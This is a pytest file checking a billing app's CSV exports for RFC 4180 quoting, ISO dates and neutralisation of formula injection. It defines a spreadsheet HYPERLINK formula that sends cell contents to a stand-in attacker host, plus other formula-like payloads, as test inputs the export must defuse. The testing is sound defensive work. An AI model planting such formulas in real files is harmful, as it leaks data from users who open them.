"""CSV exports (issue 11 item 4): RFC 4180 with a header row, ISO dates, amounts in major units,
and cells a spreadsheet would run as formulas neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop import cli
from desktop.services.payments import PaymentService
from desktop.services.spreadsheets import KINDS, neutralised, write_csv
from desktop.storage import models as m
from document_world import change_now_world

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def exported(world, kind: str) -> tuple[str, list[dict]]:
    out = io.StringIO(newline="")
    write_csv(world.db, kind, out, world.clock.today())
    text = out.getvalue()
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def world():
    world, member, number = change_now_world()
    with world.db.write() as session:
        row = session.get(m.MemberRow, member)
        row.name, row.company = EVIL, "Engines, \"Analytical\"\nLtd"
        row.phone = "+353 1 234"
    PaymentService(world.db, world.clock).record(number, 10000, method="@card",
                                                 reference="-SUM(1)")
    return world


def test_a_member_named_like_a_formula_exports_inert(world):
    text, rows = exported(world, "members")
    (ada,) = rows
    assert ada["name"] == "'" + EVIL  # a spreadsheet shows it as text, never runs it
    assert ada["phone"] == "'+353 1 234"
    assert ada["company"] == "Engines, \"Analytical\"\nLtd"  # quoted, not broken into rows
    assert text.startswith("email,name,company,phone,billing_address,vat_id,credit_balance,"
                           "deposit_held,archived\r\n")
    assert '"Engines, ""Analytical""\nLtd"' in text  # RFC 4180 quoting


def test_invoices_have_iso_dates_amounts_in_major_units_and_their_standing(world):
    _text, rows = exported(world, "invoices")
    change = rows[-1]
    assert (change["issue_date"], change["due_date"]) == ("2024-04-11", "2024-04-25")
    assert (change["subtotal"], change["tax"], change["total"], change["credit_applied"],
            change["amount_due"], change["paid"], change["outstanding"], change["status"]) == (
        "400.00", "40.00", "440.00", "50.00", "390.00", "100.00", "290.00", "partly_paid")


def test_lines_keep_negative_amounts_as_numbers_and_payments_are_neutralised(world):
    _text, lines = exported(world, "invoice-lines")
    assert [(line["kind"], line["amount"]) for line in lines[-3:]] == [
        ("unused", "-133.33"), ("plan", "333.33"), ("deposit", "200.00")]
    assert (lines[-3]["period_start"], lines[-3]["days"], lines[-3]["period_days"]) == (
        "2024-04-11", "20", "30")
    _text, (payment,) = exported(world, "payments")
    assert (payment["amount"], payment["method"], payment["reference"]) == (
        "100.00", "'@card", "'-SUM(1)")


def test_contracts_export_with_their_status(world):
    _text, rows = exported(world, "contracts")
    assert [(r["plan"], r["status"]) for r in rows] == [("Standard", "cancelled"),
                                                         ("Premium", "active")]


@given(st.text())
def test_no_neutralised_cell_starts_a_formula(text):
    cell = neutralised(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


def test_the_command_line_writes_every_kind_and_refuses_an_unknown_one(tmp_path, capsys):
    database = tmp_path / "desk.sqlite3"
    assert cli.main(["demo", "--members", "3", "--db", str(database)]) == 0
    for kind in KINDS:
        target = tmp_path / f"{kind}.csv"
        assert cli.main(["csv", kind, str(target), "--db", str(database)]) == 0
        header = target.read_bytes().split(b"\r\n")[0]
        assert header and b"," in header and header == header.lower()
    capsys.readouterr()
    with pytest.raises(SystemExit) as refused:
        cli.main(["csv", "plans", str(tmp_path / "x.csv"), "--db", str(database)])
    assert refused.value.code == 2
    assert "invalid choice: 'plans'" in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists()
